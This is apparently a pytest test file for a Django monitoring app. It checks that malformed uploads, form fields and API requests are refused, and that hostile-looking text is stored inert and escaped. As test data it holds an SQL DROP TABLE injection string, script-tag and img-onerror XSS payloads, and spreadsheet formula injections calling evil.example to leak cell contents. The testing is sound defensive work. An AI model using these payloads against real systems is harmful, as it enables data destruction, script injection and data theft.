"""Malformed input: files and form fields that must be refused cleanly, or stored as inert text.

``test_malformed_input_is_refused`` runs one case per corpus entry (the files are in
``tests/data/malformed/`` plus the with-problems samples of the importers). Each case
posts through the real page or API, and must:

- answer without a server error, with a message naming the row, field or parameter;
- store nothing: the counts of events, annual figures, import batches, indicator
  values, reports, reported values and evidence are unchanged, and no file is left
  under MEDIA_ROOT.

The other tests cover input that is legitimately stored (SQL in free text, formula
cells, script tags in a dataset title): stored exactly, shown escaped, exported inert.
"""

from __future__ import annotations

import html
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client

from napmon.core import roles
from napmon.core.errors import DatasetError
from napmon.core.models import AuditEntry
from napmon.events.models import AnnualFigure, Event, ImportBatch
from napmon.indicators.models import IndicatorValue, Source
from napmon.plans.dataset import DEFAULT_DATASET
from napmon.plans.models import Point
from napmon.plans.services import load_dataset
from napmon.reporting import services
from napmon.reporting.models import (
    BodyMembership,
    Evidence,
    Report,
    ReportedValue,
    ReportingBody,
)

from .test_security import csp_violations

pytestmark = pytest.mark.django_db

DATA = Path(__file__).resolve().parents[1] / "data"
MALFORMED = DATA / "malformed"
SQL = "'; DROP TABLE events_event; --"
COUNTED = (Event, AnnualFigure, ImportBatch, IndicatorValue, Report, ReportedValue, Evidence)


def counts() -> dict[str, int]:
    return {model.__name__: model.objects.count() for model in COUNTED}


def media_files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def make_user(username, role=None, body=None, **extra):
    user = get_user_model().objects.create_user(username, password="x-Secret-123", **extra)
    if role:
        user.groups.add(Group.objects.get(name=role))
    if body:
        BodyMembership.objects.create(user=user, body=body)
    return get_user_model().objects.get(pk=user.pk)


@dataclass
class Ctx:
    importer: Client
    reporter: Client
    coordinator: Client
    report: Report
    tmp: Path
    settings: object


@pytest.fixture
def ctx(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    punjab = ReportingBody.objects.get(slug="punjab")
    importer = make_user("importer")
    importer.user_permissions.add(Permission.objects.get(codename="add_importbatch"))
    reporter = make_user("rep-pb", roles.REPORTER, punjab)
    coordinator = make_user("coord", roles.COORDINATOR)
    services.assign_point(punjab, Point.objects.get(version__label="2021", number=4))
    period = services.open_period("2025-03", actor=coordinator)
    report = services.create_report(punjab, period, actor=reporter)
    clients = []
    for user in (importer, reporter, coordinator):
        client = Client(raise_request_exception=False)
        client.force_login(user)
        clients.append(client)
    (tmp_path / "media").mkdir()
    return Ctx(*clients, report=report, tmp=tmp_path, settings=settings)


def page_text(response) -> str:
    return html.unescape(response.content.decode())


# --- the cases: each returns (response, text the user must see) ----------------------------


def upload(ctx, path: Path, fmt: str, name: str | None = None, **fields):
    with path.open("rb") as fh:
        upload = SimpleUploadedFile(name or path.name, fh.read())
    return ctx.importer.post("/events/import/", {"format": fmt, "file": upload, **fields})


def upload_bytes(ctx, name: str, content: bytes, fmt: str = "annual", **fields):
    return ctx.importer.post(
        "/events/import/", {"format": fmt, "file": SimpleUploadedFile(name, content), **fields}
    )


def _report_post(ctx, field_kind: str, value: str):
    report = ctx.report
    data = {"version": report.version, "submit": "1"}
    for entry in report.entries.all():
        data[f"progress-{entry.pk}"] = "Accounts reviewed."
        for rv in entry.values.all():
            data[rv.field_name] = "100"
            data[rv.explanation_field_name] = ""
    target = next(
        rv.field_name for rv in ReportedValue.objects.filter(entry__report=report).order_by("pk")
    )
    data[target] = value
    response = ctx.reporter.post(f"/reporting/reports/{report.pk}/edit/", data)
    return response, target


def _evidence(ctx, name: str, content: bytes):
    entry = ctx.report.entries.get()
    return ctx.reporter.post(
        f"/reporting/reports/{ctx.report.pk}/evidence/",
        {"entry": entry.pk, "file": SimpleUploadedFile(name, content)},
        follow=True,
    )


def _dataset(ctx, edit) -> str:
    data = yaml.safe_load(DEFAULT_DATASET.read_text(encoding="utf-8"))
    edit(data)
    path = ctx.tmp / "nap.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    with pytest.raises(DatasetError) as err:
        load_dataset(path)
    return err.value.message


def _set(path: list, value):
    def edit(data):
        target = data
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value

    return edit


CASES: dict[str, object] = {
    # Event imports through /events/import/.
    "utf16-without-bom": lambda c: (
        upload(c, MALFORMED / "annual_utf16le_no_bom.csv", "annual"),
        ["Nothing was imported", "looks like UTF-16 text without a byte-order mark"],
    ),
    "latin1-with-utf8-override": lambda c: (
        upload(c, MALFORMED / "annual_latin1.csv", "annual", encoding="utf-8"),
        ["Line 3, column 'source': byte 0xe9 is not valid utf-8"],
    ),
    "gtd-cp1252-as-utf8": lambda c: (
        upload(c, DATA / "gtd/with-problems/wrong_encoding.csv", "gtd", encoding="utf-8"),
        ["is not valid utf-8", "column 'summary'"],
    ),
    "unknown-encoding-name": lambda c: (
        upload(c, MALFORMED / "annual_latin1.csv", "annual", encoding="klingon"),
        ["Unknown encoding 'klingon'"],
    ),
    "truncated-quoted-row": lambda c: (
        upload(c, MALFORMED / "annual_truncated.csv", "annual"),
        ["Row 3", "the file looks cut off"],
    ),
    "truncated-gtd": lambda c: (
        upload(c, DATA / "gtd/with-problems/truncated.csv", "gtd"),
        ["Row 3", "128 of 135 fields"],
    ),
    "png-renamed-csv": lambda c: (
        upload(c, MALFORMED / "chart_png_renamed.csv", "annual"),
        ["Nothing was imported", "Row 3, column", "contains a NUL byte"],
    ),
    "empty-file": lambda c: (
        upload(c, DATA / "gtd/with-problems/empty.csv", "gtd"),
        ["The submitted file is empty."],
    ),
    "header-less": lambda c: (
        upload(c, MALFORMED / "annual_no_header.csv", "annual"),
        ["Required column(s) missing from the header: year, region, measure, value"],
    ),
    "header-less-gtd": lambda c: (
        upload(c, DATA / "gtd/with-problems/no_header.csv", "gtd"),
        ["Row 1 holds data (201412160001, 2014, 12 ...), not column names"],
    ),
    "missing-columns-ucdp": lambda c: (
        upload(c, DATA / "ucdp/with-problems/missing_columns.csv", "ucdp"),
        ["Required column(s) missing", "best"],
    ),
    "text-in-number-annual": lambda c: (
        upload(c, DATA / "annual/with-problems/text_in_number.csv", "annual"),
        ["column 'value'", "is not a number"],
    ),
    "text-in-number-gtd": lambda c: (
        upload(c, DATA / "gtd/with-problems/text_in_number.csv", "gtd"),
        ["Row ", "nkill"],
    ),
    "text-in-year": lambda c: (
        upload(c, MALFORMED / "annual_impossible_date_year.csv", "annual"),
        ["Row 3, column 'year': '20l4' is not a number"],
    ),
    "date-2014-02-30": lambda c: (
        upload(c, DATA / "ucdp/with-problems/impossible_date.csv", "ucdp"),
        ["2014-02-30"],
    ),
    "impossible-date-acled": lambda c: (
        upload(c, DATA / "acled/with-problems/impossible_date.csv", "acled"),
        ["event_date"],
    ),
    "duplicate-ids": lambda c: (
        upload(c, DATA / "acled/with-problems/duplicate_ids.csv", "acled"),
        ["Row 5, column 'event_id_cnty': id 'PAK90001' already appears at row 2"],
    ),
    "duplicate-keys-annual": lambda c: (
        upload(c, MALFORMED / "annual_duplicate_rows.csv", "annual"),
        ["Row 4", "already appears at row 3"],
    ),
    "xlsx-zip-of-junk": lambda c: (
        upload(c, MALFORMED / "junk_zip.xlsx", "annual"),
        ["is not a readable XLSX workbook", "[Content_Types].xml"],
    ),
    "csv-renamed-xlsx": lambda c: (
        upload(c, MALFORMED / "csv_renamed.xlsx", "annual"),
        ["is not a readable XLSX workbook (File is not a zip file)"],
    ),
    "unknown-format": lambda c: (
        upload(c, MALFORMED / "annual_no_header.csv", "spss"),
        ["Select a valid choice. spss is not one of the available choices."],
    ),
    "mapped-without-mapping": lambda c: (
        upload(c, DATA / "mapped/valid/monitor_incidents.csv", "mapped"),
        ["The mapped format needs a mapping file."],
    ),
    "mapping-not-yaml": lambda c: (
        c.importer.post(
            "/events/import/",
            {
                "format": "mapped",
                "file": SimpleUploadedFile(
                    "incidents.csv",
                    (DATA / "mapped/valid/monitor_incidents.csv").read_bytes(),
                ),
                "mapping": SimpleUploadedFile(
                    "mapping.yaml", (MALFORMED / "mapping_not_yaml.yaml").read_bytes()
                ),
            },
        ),
        ["Nothing was imported", "mapping"],
    ),
    "sql-as-dataset-name-dry-run": lambda c: (
        upload(c, MALFORMED / "annual_truncated.csv", "annual", dataset=SQL),
        ["Nothing was imported", "Row 3"],
    ),
    # Size limits.
    "over-the-request-limit": lambda c: (
        _over_request_limit(c),
        ["uploads are limited to 1 MB"],
    ),
    "over-the-import-limit": lambda c: (
        _over_import_limit(c),
        ["above the import limit", "NAPMON_MAX_IMPORT_MB"],
    ),
    # Report form fields.
    "report-value-text": lambda c: _report_case(c, "twelve", "Enter a number."),
    "report-value-nan": lambda c: _report_case(c, "NaN", "Enter a number."),
    "report-value-huge": lambda c: _report_case(c, "1e309", "Ensure that there are no more"),
    "report-value-sql": lambda c: _report_case(c, SQL, "Enter a number."),
    # Evidence uploads.
    "evidence-exe-as-pdf": lambda c: (
        _evidence(c, "minutes.pdf", (MALFORMED / "evidence_exe_renamed.pdf").read_bytes()),
        ["the content must match the file name"],
    ),
    "evidence-pdf-as-png": lambda c: (
        _evidence(c, "photo.png", (MALFORMED / "evidence_pdf_renamed.png").read_bytes()),
        ["the content must match the file name"],
    ),
    "evidence-exe": lambda c: (
        _evidence(c, "setup.exe", (MALFORMED / "evidence_exe_renamed.pdf").read_bytes()),
        ["Only PDF, PNG, JPG, DOCX, XLSX and CSV files are accepted"],
    ),
    "evidence-empty": lambda c: (
        _evidence(c, "minutes.pdf", b""),
        ["Choose a point and a file."],
    ),
    "evidence-too-large": lambda c: (
        _evidence_too_large(c),
        ["The file is larger than the limit of"],
    ),
    # Other forms of the reporting cycle.
    "period-2014-02-30": lambda c: (
        c.coordinator.post("/reporting/periods/", {"month": "2014-02-30"}),
        ["YYYY-MM"],
    ),
    "period-sql": lambda c: (
        c.coordinator.post("/reporting/periods/", {"month": SQL}),
        ["YYYY-MM"],
    ),
    "review-half-h3": lambda c: (
        c.coordinator.post("/reporting/reviews/", {"half": "2025-H3"}),
        ["2025-H3 is not a half-year; write it as YYYY-H1 or YYYY-H2."],
    ),
    # API: wrong JSON types, the error shape names the field.
    "api-token-name-number": lambda c: (
        c.reporter.post("/api/v1/tokens", {"name": 123}, content_type="application/json"),
        ["name"],
    ),
    "api-token-scope-list": lambda c: (
        c.reporter.post(
            "/api/v1/tokens", {"name": "x", "scope": ["read"]}, content_type="application/json"
        ),
        ["scope"],
    ),
    "api-token-body-not-json": lambda c: (
        c.reporter.post("/api/v1/tokens", "{name: ", content_type="application/json"),
        [],
    ),
    "api-point-number-text": lambda c: (c.reporter.get("/api/v1/versions/2021/points/four"), []),
    "api-limit-text": lambda c: (c.reporter.get("/api/v1/values?limit=ten"), ["limit"]),
}


def _over_request_limit(c):
    c.settings.NAPMON_MAX_UPLOAD_MB = 1
    content = (MALFORMED / "annual_no_header.csv").read_bytes() * 6000  # about 1.1 MB
    return upload_bytes(c, "big.csv", content)


def _over_import_limit(c):
    c.settings.NAPMON_MAX_IMPORT_MB = 0.0001  # about 100 bytes
    return upload(c, DATA / "annual/valid/pips_yearly.csv", "annual")


def _evidence_too_large(c):
    c.settings.NAPMON_EVIDENCE_MAX_BYTES = 64
    return _evidence(c, "minutes.pdf", b"%PDF-1.7\n" + b"0" * 200)


def _report_case(c, value, message):
    response, field = _report_post(c, "value", value)
    text = page_text(response)
    # The message sits on the field it is about.
    position = text.index(f'name="{field}"')
    assert message in text[position : position + 800], text[position : position + 800]
    return response, [message]


API_FIELDS = {
    "api-token-name-number": "name",
    "api-token-scope-list": "scope",
    "api-point-number-text": "number",
    "api-limit-text": "limit",
}


@pytest.mark.parametrize("case", sorted(CASES), ids=sorted(CASES))
def test_malformed_input_is_refused(ctx, case):
    media = Path(ctx.settings.MEDIA_ROOT)
    before = counts()
    audit_before = AuditEntry.objects.count()
    response, expected = CASES[case](ctx)
    assert response.status_code < 500, page_text(response)[:2000]
    if case.startswith("api-"):
        body = response.json()
        assert response.status_code in (400, 422), body
        assert set(body) <= {"code", "message", "field"} and body["message"]
        if case in API_FIELDS:
            assert body["code"] == "invalid" and body["field"] == API_FIELDS[case], body
        text = body["message"]
    elif response.get("Content-Type", "").startswith("application/json"):
        text = response.json()["message"]
        assert response.status_code == 413
    else:
        text = page_text(response)
        assert csp_violations(response.content.decode()) == []
    for fragment in expected:
        assert fragment in text, f"{fragment!r} not shown:\n{text[-3000:]}"
    assert counts() == before
    assert media_files(media) == []
    assert AuditEntry.objects.count() == audit_before
    ctx.report.refresh_from_db()
    assert ctx.report.state == Report.State.DRAFT
    assert not ReportedValue.objects.filter(value__isnull=False).exists()


# Input that no check can refuse, or that should be refused and is not yet.


def test_a_header_only_file_is_refused(ctx):
    before = counts()
    response = upload(ctx, MALFORMED / "annual_header_only.csv", "annual")
    assert "Nothing was imported" in page_text(response)
    assert counts() == before


def test_a_csv_with_nul_bytes_is_refused(ctx):
    before = counts()
    response = upload(ctx, MALFORMED / "annual_nul_bytes.csv", "annual")
    assert response.status_code == 200
    text = page_text(response)
    assert "Nothing was imported" in text and "Row 3" in text
    assert counts() == before


def test_a_damaged_workbook_is_named_as_uploaded(ctx):
    response = upload(ctx, MALFORMED / "junk_zip.xlsx", "annual")
    assert "junk_zip.xlsx is not a readable XLSX workbook" in page_text(response)


def test_sql_in_the_explorer_filters_is_refused_and_the_tables_stay(client):
    events = Event.objects.count()
    for params in (
        {"province": SQL},
        {"dataset": SQL},
        {"actor": SQL},
        {"date_from": SQL},
        {"event_type": SQL},
        {"page": SQL},
    ):
        response = client.get("/events/", params)
        assert response.status_code == 200
        text = page_text(response)
        assert SQL not in response.content.decode()  # never echoed unescaped
        if "page" not in params:
            assert "Select a valid choice" in text or "Enter a valid date" in text, params
    assert "events_event" in connection.introspection.table_names()
    assert Event.objects.count() == events


def test_sql_and_markup_in_a_report_narrative_are_stored_as_text_and_shown_escaped(ctx):
    report = ctx.report
    entry = report.entries.get()
    narrative = f"{SQL} <script>alert('x')</script>"
    data = {"version": report.version, f"progress-{entry.pk}": narrative, "save": "1"}
    for rv in entry.values.all():
        data[rv.field_name] = ""
        data[rv.explanation_field_name] = ""
    response = ctx.reporter.post(f"/reporting/reports/{report.pk}/edit/", data)
    assert response.status_code == 302
    entry.refresh_from_db()
    assert entry.progress == narrative
    page = ctx.reporter.get(f"/reporting/reports/{report.pk}/").content.decode()
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "&#x27;; DROP TABLE events_event; --" in page
    assert csp_violations(page) == []
    assert "events_event" in connection.introspection.table_names()


def test_formula_cells_are_imported_as_text(ctx):
    response = upload(ctx, MALFORMED / "acled_formula_cells.csv", "acled")
    assert response.status_code == 200 and "Import finished." in page_text(response)
    first = Event.objects.get(external_id="PAK91001")
    assert first.summary.startswith('=HYPERLINK("http://evil.example/?x="&A1,"details")')
    assert Event.objects.get(external_id="PAK91002").summary.startswith("@SUM(1+1)")
    page = ctx.importer.get("/events/", {"dataset": first.dataset.name}).content.decode()
    assert csp_violations(page) == []


def test_formula_text_is_exported_inert_in_csv(ctx, client):
    """A source title that looks like a formula leaves the CSV export quoted as text."""
    data = yaml.safe_load(DEFAULT_DATASET.read_text(encoding="utf-8"))
    formula = '=HYPERLINK("http://evil.example/","Click")'
    data["sources"][0]["title"] = formula
    path = ctx.tmp / "nap.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    load_dataset(path)
    assert Source.objects.filter(title=formula).exists()
    text = client.get("/api/v1/exports/sources.csv").content.decode()
    assert "'" + formula.replace('"', '""') in text
    assert "," + formula not in text and '"' + formula not in text


def test_formula_text_is_inert_in_the_audit_csv(ctx):
    import csv

    admin = make_user("adm", roles.ADMIN, is_staff=True)
    # No slash in the name: browsers and Django keep only the part after the last one.
    name = '=HYPERLINK("evil.example","Click")+cmd.pdf'
    response = _evidence(ctx, name, b"%PDF-1.7\n%%EOF\n")
    assert "File attached." in page_text(response)
    client = Client()
    client.force_login(admin)
    export = client.get("/reporting/audit/?format=csv").content.decode()
    cells = [cell for row in csv.reader(export.splitlines()) for cell in row]
    assert "'" + name in cells
    assert name not in cells


def test_script_tags_in_dataset_titles_are_shown_escaped(ctx, client):
    data = yaml.safe_load(DEFAULT_DATASET.read_text(encoding="utf-8"))
    version = next(v for v in data["versions"] if str(v["label"]) == "2021")
    point = next(p for p in version["points"] if p["number"] == 4)
    point["title"] = '<script>alert("nap")</script> Schedule IV'
    data["sources"][0]["title"] = "<img src=x onerror=alert(1)>"
    path = ctx.tmp / "nap.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    load_dataset(path)
    for url in ("/plan/2021/", "/plan/2021/points/4/", "/sources/"):
        page = client.get(url).content.decode()
        assert "<script>alert" not in page and "<img src=x" not in page, url
        assert csp_violations(page) == [], url
    assert (
        "&lt;script&gt;alert(&quot;nap&quot;)&lt;/script&gt;"
        in client.get("/plan/2021/points/4/").content.decode()
    )
    assert "&lt;img src=x onerror=alert(1)&gt;" in client.get("/sources/").content.decode()


@pytest.mark.parametrize(
    ("case", "edit", "expected"),
    [
        ("points-as-text", _set(["versions", 0, "declared_points"], "twenty"), "declared_points"),
        ("adopted-2014-02-30", _set(["versions", 0, "adopted_on"], "2014-02-30"), "adopted_on"),
        ("plan-not-a-mapping", _set(["plan"], "NAP"), "plan"),
    ],
    ids=["points-as-text", "adopted-2014-02-30", "plan-not-a-mapping"],
)
def test_a_malformed_dataset_is_refused_naming_the_field(ctx, case, edit, expected):
    before = counts()
    message = _dataset(ctx, edit)
    assert expected in message
    assert counts() == before


def test_a_dataset_that_is_not_utf8_is_refused(ctx):
    path = ctx.tmp / "nap.yaml"
    path.write_bytes(DEFAULT_DATASET.read_text(encoding="utf-8").encode("utf-16"))
    before = counts()
    with pytest.raises(DatasetError) as err:
        load_dataset(path)
    assert err.value.code == "dataset_encoding" and "not UTF-8" in err.value.message
    assert counts() == before


def test_the_corpus_has_at_least_thirty_cases():
    assert len(CASES) >= 30
